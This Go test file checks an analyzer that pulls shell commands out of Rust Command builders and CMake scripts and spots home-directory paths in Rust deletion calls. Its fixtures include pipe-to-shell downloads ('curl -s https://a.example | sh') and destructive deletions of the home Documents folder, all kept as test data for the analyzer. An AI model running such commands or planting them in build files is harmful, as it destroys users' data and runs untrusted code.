package callfacts

import (
	"slices"
	"testing"
)

func TestBuilderCommands(t *testing.T) {
	cases := map[string][]string{
		`Command::new("sh").arg("-c").arg("curl x | sh").status()`:           {"curl x | sh"},
		`Command::new("rm").args(["-rf", "/x"]).status(); let y = 1;`:        {"rm -rf /x"},
		`Command::new("protoc").arg("--rust_out").arg("src").output()`:       {"protoc --rust_out src"},
		`Command::new(bin).arg("x")`:                                         nil, // the program is not shown
		`let a = Command::new("ls"); Command::new("echo").arg("hi").spawn()`: {"ls", "echo hi"},
	}
	for code, want := range cases {
		if got := builderCommands(code); !slices.Equal(got, want) {
			t.Errorf("builderCommands(%q) = %q, want %q", code, got, want)
		}
	}
}

func TestCmakeCommands(t *testing.T) {
	cases := map[string][]string{
		"execute_process(COMMAND rm -rf $ENV{HOME}/Documents)":                               {"rm -rf ~/Documents"},
		"add_custom_target(x ALL COMMAND curl -s https://a.example | sh VERBATIM)":           {"curl -s https://a.example | sh"},
		"add_custom_command(OUTPUT g.c COMMAND gen > g.c COMMAND touch done DEPENDS gen.py)": {"gen > g.c", "touch done"},
		"project(demo)\nadd_executable(demo main.c)":                                         nil,
	}
	for src, want := range cases {
		if got := cmakeCommands(src); !slices.Equal(got, want) {
			t.Errorf("cmakeCommands(%q) = %q, want %q", src, got, want)
		}
	}
}

func TestHomeJoinedRustFormat(t *testing.T) {
	cases := map[string][]string{
		`let h = std::env::var("HOME").unwrap(); remove_dir_all(format!("{}/Documents", h))`: {"~/Documents"},
		`remove_dir_all(std::env::var("HOME").unwrap())`:                                     {"~"},
		`let out = std::env::var("OUT_DIR").unwrap(); write(format!("{}/gen.rs", out), "")`:  nil,
	}
	for code, want := range cases {
		got := homeJoined(code)
		for _, w := range want {
			if !slices.Contains(got, w) {
				t.Errorf("homeJoined(%q) = %q, want it to hold %q", code, got, w)
			}
		}
		if want == nil && len(got) > 0 {
			t.Errorf("homeJoined(%q) = %q, want none", code, got)
		}
	}
}
